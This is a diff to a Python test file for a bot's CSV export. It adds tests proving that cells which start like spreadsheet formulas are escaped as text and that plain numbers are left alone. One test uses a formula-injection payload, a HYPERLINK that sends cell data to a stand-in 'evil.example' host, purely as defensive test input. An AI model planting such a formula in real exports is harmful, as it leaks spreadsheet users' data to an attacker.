@@ -20,7 +20,16 @@ from bot.bootstrap import open_app
 from bot.caller import Caller
 from bot.cli import main
 from bot.clock import FixedClock
-from bot.export import CaseLine, case_record, kinds_text, rupees
+from bot.export import (
+    CASE_HEADER,
+    CaseLine,
+    Table,
+    case_record,
+    csv_cell,
+    kinds_text,
+    rupees,
+    write_csv,
+)
 from bot.services.admin import accept_invite
 from bot.services.keeper import record_payment, record_seizure
 from bot.store.migrate import alembic_config
@@ -571,7 +580,9 @@ def test_lots_of_the_same_kind_are_added_up_in_the_order_they_first_appear() -> 
 
 def test_a_place_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() -> None:
     line = CaseLine("KNM-9", "KNM", "impounded", datetime(2026, 3, 1).date(), "=1+1", (), None)
-    assert case_record(line)[4:] == ["'=1+1", "", "0", ""]
+    out = io.StringIO()
+    write_csv(out, Table(CASE_HEADER, [case_record(line)]))
+    assert out.getvalue().splitlines()[1].split(",")[4:] == ["'=1+1", "", "0", ""]
 
 
 # -- the command line as a person meets it (issue 14, item 8) --------------------------
@@ -671,3 +682,31 @@ def test_contacts_channel_chooses_whatsapp_or_sms_and_auto_gives_the_choice_back
     assert contact is not None
     assert contact.channel is None
     assert refused(capsys, "contacts", "channel", "12", "sms") == "not a mobile number: '12'"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_cell_starting_like_a_formula_is_written_as_text(start: str) -> None:
+    """Any column, the header too: the one writer of every export neutralises the cell."""
+    cell = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    out = io.StringIO()
+    write_csv(out, Table(("a", cell), [[cell, "ok", cell]]))
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert rows == [["a", "'" + cell], ["'" + cell, "ok", "'" + cell]]
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("-300", "-300"),  # a refund in the ledger: a number, left a number
+        ("-0.05", "-0.05"),
+        ("120.50", "120.50"),
+        ("-300 cows", "'-300 cows"),  # not a plain number: text
+        ("-1+2", "'-1+2"),
+        ("+300", "'+300"),
+        ("-", "'-"),
+        ("-3.", "'-3."),
+        ("Kunnamangalam - market", "Kunnamangalam - market"),
+    ],
+)
+def test_a_plain_number_is_left_alone_and_anything_else_is_text(cell: str, written: str) -> None:
+    assert csv_cell(cell) == written
